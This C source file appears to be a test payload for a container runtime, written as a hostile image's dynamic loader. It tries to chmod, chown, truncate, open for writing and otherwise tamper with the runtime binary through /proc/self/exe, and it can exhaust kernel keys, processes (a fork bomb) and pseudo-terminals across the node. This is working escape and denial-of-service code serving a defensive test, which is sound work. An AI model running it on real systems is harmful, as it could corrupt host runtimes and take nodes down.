/*
 * What a hostile image brings as its dynamic loader: run by the kernel for any dynamic program of the node that is executed in the
 * container, such as the OCI runtime by /proc/self/exe. It tries to change the file that it runs as, and its standard input, in every
 * way, and says what came of it: a name and an errno a line. "hold" as its last argument: it stays, with all that it got. "keys", "processes"
 * and "terminals" use up all there are, "session" tells its session keyring.
 *
 * Without a C library, whose start would take the program's headers for its own.
 */
#include <asm/unistd.h>

#define O_WRONLY 1
#define O_RDWR 2
#define O_NOCTTY 0400
#define O_PATH 010000000
#define AT_FDCWD -100
#define AT_EMPTY_PATH 0x1000
#define F_SETLEASE 1024
#define F_WRLCK 1
#define FS_IOC_SETFLAGS 0x40086602
#define FS_IMMUTABLE_FL 0x10
#define NR_fchmodat2 452
#define KEYCTL_GET_KEYRING_ID 0
#define KEY_SPEC_PROCESS_KEYRING -2
#define KEY_SPEC_SESSION_KEYRING -3

/* Kernels before 6.8 run no loader whose last segment can't be written to: they fill up its page. */
__attribute__((used)) static int data = 1;

static long call(long number, long a, long b, long c, long d, long e)
{
	long result;
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;
	__asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory");
	return result;
}

static int same(const char *a, const char *b)
{
	while (*a && *a == *b)
		a++, b++;
	return *a == *b;
}

/* One system call, so that lines of several don't mix. */
static void say(const char *what, const char *name, long result)
{
	char line[80], digits[20];
	int length = 0, count = 0;
	for (; *what; what++)
		line[length++] = *what;
	line[length++] = ' ';
	for (; *name; name++)
		line[length++] = *name;
	line[length++] = ' ';
	if (result < 0)
		result = -result;
	else
		result = 0;
	do
		digits[count++] = '0' + result % 10;
	while (result /= 10);
	while (count)
		line[length++] = digits[--count];
	line[length++] = '\n';
	call(__NR_write, 1, (long)line, length, 0, 0);
}

/* Modes differ from what is right by as little as can be seen: the node shall survive a test that fails. */
static void attack(const char *what, const char *path, long fd, long mode)
{
	long time[4] = { 1, 1, 1, 1 }, flags = FS_IMMUTABLE_FL;
	long handle = call(__NR_open, (long)path, O_PATH, 0, 0, 0);
	say(what, "fchmod", call(__NR_fchmod, fd, mode, 0, 0, 0));
	say(what, "chmod", call(__NR_chmod, (long)path, mode, 0, 0, 0));
	say(what, "fchmodat2", call(NR_fchmodat2, handle, (long)"", mode, AT_EMPTY_PATH, 0));
	say(what, "fchown", call(__NR_fchown, fd, 1, 1, 0, 0));
	say(what, "chown", call(__NR_chown, (long)path, 1, 1, 0, 0));
	say(what, "fchownat", call(__NR_fchownat, handle, (long)"", 1, 1, AT_EMPTY_PATH));
	say(what, "futimens", call(__NR_utimensat, fd, 0, (long)time, 0, 0));
	say(what, "utimensat", call(__NR_utimensat, AT_FDCWD, (long)path, (long)time, 0, 0));
	say(what, "fsetxattr", call(__NR_fsetxattr, fd, (long)"security.peapod", (long)"x", 1, 0));
	say(what, "setxattr", call(__NR_setxattr, (long)path, (long)"user.peapod", (long)"x", 1, 0));
	say(what, "setflags", call(__NR_ioctl, fd, FS_IOC_SETFLAGS, (long)&flags, 0, 0));
}

/* All that the kernel lets this user have, on the whole node: to the last byte. */
static void use_up_keys(void)
{
	static char content[32000];
	char name[] = "key-000000";
	long size = sizeof(content), result, digit;
	for (;;) {
		for (digit = 9; ++name[digit] > '9'; digit--)
			name[digit] = '0';
		result = call(__NR_add_key, (long)"user", (long)name, (long)content, size, KEY_SPEC_PROCESS_KEYRING);
		if (result < 0 && size > 1)
			size /= 2;
		else if (result < 0)
			break;
	}
	say("keys", "last", result);
}

/* All that the node has left, or the container's limit. */
static void use_up_processes(void)
{
	long result;
	do {
		result = call(__NR_fork, 0, 0, 0, 0, 0);
		while (result == 0)
			call(__NR_pause, 0, 0, 0, 0, 0);
	} while (result > 0);
	say("processes", "last", result);
}

static void use_up_terminals(void)
{
	long result;
	do
		result = call(__NR_open, (long)"/dev/ptmx", O_RDWR | O_NOCTTY, 0, 0, 0);
	while (result >= 0);
	say("terminals", "last", result);
}

__attribute__((used, noreturn)) static void run(long *stack)
{
	long count = *stack, fd;
	char **words = (char **)(stack + 1);
	const char *exe = "/proc/self/exe";
	if (count > 1 && same(words[1], "exe")) {
		fd = call(__NR_open, (long)exe, 0, 0, 0, 0);
		attack("exe", exe, fd, 0711);
		say("exe", "write", call(__NR_open, (long)exe, O_WRONLY, 0, 0, 0));
		say("exe", "truncate", call(__NR_truncate, (long)exe, 0, 0, 0, 0));
		say("exe", "lease", call(__NR_fcntl, fd, F_SETLEASE, F_WRLCK, 0, 0));
	} else if (count > 1 && same(words[1], "keys")) {
		use_up_keys();
	} else if (count > 1 && same(words[1], "processes")) {
		use_up_processes();
	} else if (count > 1 && same(words[1], "terminals")) {
		use_up_terminals();
	} else if (count > 1 && same(words[1], "session")) {
		say("session", "keyring", -call(__NR_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0, 0, 0));
	} else if (count > 1 && same(words[1], "stdin")) {
		attack("stdin", "/proc/self/fd/0", 0, 0667);
	}
	say("all", "tried", 0);
	while (same(words[count - 1], "hold"))
		call(__NR_pause, 0, 0, 0, 0, 0);
	for (;;)
		call(__NR_exit_group, 0, 0, 0, 0, 0);
}

__attribute__((naked, noreturn)) void _start(void)
{
	__asm__("mov %rsp, %rdi\n\tand $-16, %rsp\n\tcall run");
}
